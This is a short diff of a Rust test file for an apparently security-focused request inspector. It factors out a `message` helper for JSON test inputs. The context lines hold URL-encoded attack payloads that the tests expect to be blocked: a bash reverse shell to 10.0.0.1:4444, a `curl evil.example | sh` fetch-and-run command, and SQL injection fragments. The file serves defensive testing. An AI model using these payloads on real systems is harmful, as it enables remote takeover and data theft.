@@ -24,6 +24,11 @@ fn text(body: &str) -> Inspection {
     typed("text/plain", body)
 }
 
+/// `line` as the `message` of a JSON record.
+fn message(line: &str) -> Inspection {
+    json(&serde_json::json!({ "message": line }).to_string())
+}
+
 #[track_caller]
 fn blocks(ins: Inspection, class: Class) {
     assert!(ins.blocked(DEFAULT_THRESHOLD), "not blocked: {ins:?}");
@@ -391,7 +396,7 @@ fn developer_prose_passes_and_its_attack_twins_block() {
         "Files: src/*/ssl/keystore",
         "File \"src/app/__init__.py\", line 3, in <module>",
     ] {
-        passes(json(&serde_json::json!({ "message": line }).to_string()));
+        passes(message(line));
     }
     blocks(query("a=bash%20-i%20>%26%20/dev/tcp/10.0.0.1/4444%200>%261"), Class::Rce);
     blocks(query("a=curl%20evil.example%20|%20sh"), Class::Rce);
@@ -434,7 +439,7 @@ fn quoted_operators_and_options_in_prose() {
         "100% satisfied -- 5 stars",
         "What is the use case for this",
     ] {
-        passes(json(&serde_json::json!({ "message": line }).to_string()));
+        passes(message(line));
     }
     blocks(query("name=x%27%3D%27x%27%20or%20%27a"), Class::Sqli);
     blocks(query("id=1%20--"), Class::Sqli);
